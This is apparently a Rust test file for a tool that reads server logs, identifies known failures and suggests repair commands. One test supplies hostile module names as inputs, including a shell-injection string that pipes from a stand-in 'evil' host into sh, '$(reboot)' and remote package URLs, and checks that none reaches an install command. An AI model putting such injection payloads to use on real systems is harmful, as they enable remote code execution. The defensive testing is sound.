//! Logs of real servers, and what is read out of them.

use super::{Source, meaning, read, trouble};

#[track_caller]
fn check(text: &str, id: &str, line: &str) {
    let found = trouble(text).unwrap_or_else(|| panic!("nothing in {text}"));
    let meaning = found.meaning.unwrap_or_else(|| panic!("not known: {}", found.line));
    assert_eq!((meaning.id.as_str(), found.line.as_str()), (id, line));
    assert!(!meaning.cause.is_empty() && !meaning.steps.is_empty());
}

#[test]
fn the_known_ends_of_servers_are_found() {
    let python = "Traceback (most recent call last):\n  File \"app.py\", line 1, in <module>\n    \
                  import flask\nModuleNotFoundError: No module named 'flask'\n";
    check(python, "start.missing_dependency", "ModuleNotFoundError: No module named 'flask'");
    assert_eq!(
        meaning("Error: Cannot find module 'express'").unwrap().steps[0].command.as_deref(),
        Some("npm install express")
    );
    for (line, id) in [
        ("OSError: [Errno 98] Address already in use", "listen.conflict"),
        ("Error: listen EADDRINUSE: address already in use :::8080", "listen.conflict"),
        ("PermissionError: [Errno 13] Permission denied: '/srv/x'", "resource.permission"),
        ("Error: listen EACCES: permission denied 0.0.0.0:80", "listen.privileged"),
        ("SyntaxError: Unexpected token } in JSON at position 12", "config.bad_json"),
        ("json.decoder.JSONDecodeError: Expecting value: line 1", "config.bad_json"),
        ("yaml.scanner.ScannerError: mapping values are not allowed here", "config.bad_yaml"),
        ("did not find expected key while parsing a block mapping", "config.bad_yaml"),
        ("FATAL ERROR: JavaScript heap out of memory", "resource.oom"),
        ("memory allocation of 80000000 bytes failed", "resource.oom"),
        ("OSError: [Errno 28] No space left on device", "resource.disk_full"),
        ("OSError: [Errno 24] Too many open files", "resource.fd_limit"),
        ("OverflowError: bind(): port must be 0-65535.", "address.port_out_of_range"),
    ] {
        check(&format!("starting\n{line}\n"), id, line);
    }
}

#[test]
fn what_a_log_says_goes_into_a_command_only_as_a_name() {
    let command = |line: &str| meaning(line).and_then(|found| found.steps[0].command.clone());
    for (line, expected) in [
        ("No module named 'google.cloud'", "python -m pip install google"),
        ("Cannot find module 'lodash/fp'", "npm install lodash"),
        ("Cannot find package '@scope/name/sub'", "npm install @scope/name"),
    ] {
        assert_eq!(command(line).as_deref(), Some(expected), "{line}");
    }
    for line in [
        "No module named 'a;curl${IFS}evil|sh'",
        "No module named 'x@https://evil.example/x'",
        "No module named '-rhttps://evil'",
        "Cannot find module '$(reboot)'",
        "Cannot find module 'x@git+ssh://evil'",
        "Cannot find module '\u{1b}[2Jx'",
        "Cannot find module './own'",
        "Cannot find module 'C:\\own'",
    ] {
        let command = command(line).unwrap_or_default();
        assert!(!command.contains("install"), "{line}: {command}");
    }
}

#[test]
fn what_is_over_or_harmless_is_no_trouble() {
    for text in [
        "[Errno 98] Address already in use\nUvicorn running on http://127.0.0.1:8000\nGET /\n",
        "GET /nosuch 404 Not Found\nGET / 200 OK\nclient timed out\n",
        "",
    ] {
        assert_eq!(trouble(text), None, "{text}");
    }
    // A fault that nobody here knows is shown, and not explained.
    let found = trouble("start\nKeyError: exception in worker, api_key=abcdefghij\nbye\n").unwrap();
    assert_eq!((found.number, found.meaning), (2, None));
    assert!(!found.line.contains("abcdefghij"), "{}", found.line);
}

#[test]
fn only_the_end_of_a_long_log_is_read() {
    let folder = tempfile::tempdir().unwrap();
    let path = folder.path().join("server.log");
    std::fs::write(&path, "x\n".repeat(200_000) + "Address already in use\nlast\n").unwrap();
    let said = read(&Source::named(&path)).unwrap();
    assert_eq!(said.trouble.as_ref().unwrap().number, 2);
    let line = said.line().unwrap();
    assert!(line.contains("server.log (counted from its end), line 2, written "), "{line}");
    std::fs::write(&path, "one\nNo module named x\n").unwrap();
    let line = read(&Source::named(&path)).unwrap().line().unwrap();
    assert!(line.contains("server.log, line 2, written 0 s ago: No module named x"), "{line}");
    assert_eq!(read(&Source::named(folder.path())), None);
}
